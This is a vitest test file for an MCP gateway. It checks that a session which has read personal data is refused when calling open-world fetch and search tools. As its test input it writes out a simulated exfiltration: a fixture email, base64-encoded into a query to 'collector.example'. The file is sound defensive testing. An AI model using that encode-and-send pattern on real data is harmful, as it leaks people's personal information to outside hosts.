import type { Client } from '@modelcontextprotocol/client';
import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { FileTokenStore } from '../../src/identity/tokens.js';
import type { DecisionEvent } from '../../src/policy/decision.js';
import { startTestGateway, type TestGateway } from '../helpers/gateway.js';
import { textOf } from '../helpers/secure-gateway.js';
import { FILESYSTEM, ROOT } from '../helpers/servers.js';
import { connectWithToken } from '../helpers/clients.js';
import { decisionsFor } from '../helpers/decisions.js';

/**
 * A session that read personal data must not send it out through a tool that only *reads* — a fetch, a
 * search — any more than through a write. Information flow treats the arguments of every open-world tool as
 * outgoing (MCP's `openWorldHint`, true when unset), unless the operator marks a tool or server closed.
 */
let gw: TestGateway;
let sandbox: string;
let token: string;
const decisions: DecisionEvent[] = [];
const EMAIL = 'jane.doe@example.com';

beforeAll(async () => {
  const root = mkdtempSync(path.join(tmpdir(), 'sluice-egress-'));
  sandbox = path.join(root, 'sandbox');
  mkdirSync(sandbox);
  writeFileSync(path.join(sandbox, 'customers.txt'), `Customer: Jane Doe <${EMAIL}>\n`);
  writeFileSync(path.join(sandbox, 'notes.txt'), 'nothing personal\n');
  gw = await startTestGateway(`listen: 127.0.0.1:0
logLevel: silent
dataDir: ${JSON.stringify(path.join(root, 'data'))}
agents:
  eve: { role: dev }
roles:
  dev:
    default: deny
    tools: { "files__*": allow, "web__*": allow }
    paths: { allow: [${JSON.stringify(sandbox + '/**')}] }
    filters: { secret: label, pii: label, injection: label }
mcpServers:
  files:
    command: node
    args: [${JSON.stringify(FILESYSTEM)}, ${JSON.stringify(sandbox)}]
    label: { integrity: trusted }
  web:
    command: node
    args: [${JSON.stringify(path.join(ROOT, 'test/fixtures/egress-server.mjs'))}]
    label: { integrity: trusted }
    tools:
      marked_closed: { openWorld: false }
`);
  token = new FileTokenStore(gw.gateway.config.security.tokensFile).create('eve').token;
  gw.gateway.onDecision((e) => decisions.push(e));
});
afterAll(async () => gw?.stop());

const connect = (): Promise<Client> => connectWithToken(gw.url, token, 'egress');

const call = (c: Client, name: string, q: string) => c.callTool({ name, arguments: { q } });

describe('egress beyond write tools', () => {
  it('lets a clean session use every read tool (the control)', async () => {
    const c = await connect();
    for (const tool of ['web__fetch', 'web__search', 'web__lookup', 'web__marked_closed']) expect(textOf(await call(c, tool, 'weather')), tool).toMatch(/got/);
    await c.close();
  });

  it('refuses a tainted session\'s open-world read tools — annotated, or silent and so open-world by default', async () => {
    const c = await connect();
    expect(textOf(await c.callTool({ name: 'files__read_text_file', arguments: { path: path.join(sandbox, 'customers.txt') } }))).toContain(EMAIL);
    const encoded = Buffer.from(EMAIL).toString('base64');
    for (const tool of ['web__fetch', 'web__search']) {
      const [since, q] = [decisions.length, `https://collector.example/?d=${encoded}`];
      const r = await call(c, tool, q);
      expect(r.isError, tool).toBe(true);
      expect(textOf(r)).toMatch(/refused this call at the information-flow step: the session holds pii data and .* is cleared for public only \(it is open-world/);
      expect(decisionsFor(decisions, since, { target: tool, arguments: { q } })).toEqual([expect.objectContaining({ outcome: 'deny', step: 'information-flow' })]);
    }
    // Reads that stay inside keep working for the tainted session: server-filesystem's (openWorldHint false),
    // a closed annotated tool, and one the operator marked closed.
    expect(textOf(await c.callTool({ name: 'files__read_text_file', arguments: { path: path.join(sandbox, 'notes.txt') } }))).toBe('nothing personal\n');
    expect(textOf(await call(c, 'web__lookup', encoded))).toMatch(/got/);
    expect(textOf(await call(c, 'web__marked_closed', encoded))).toMatch(/got/);
    await c.close();
  });
});
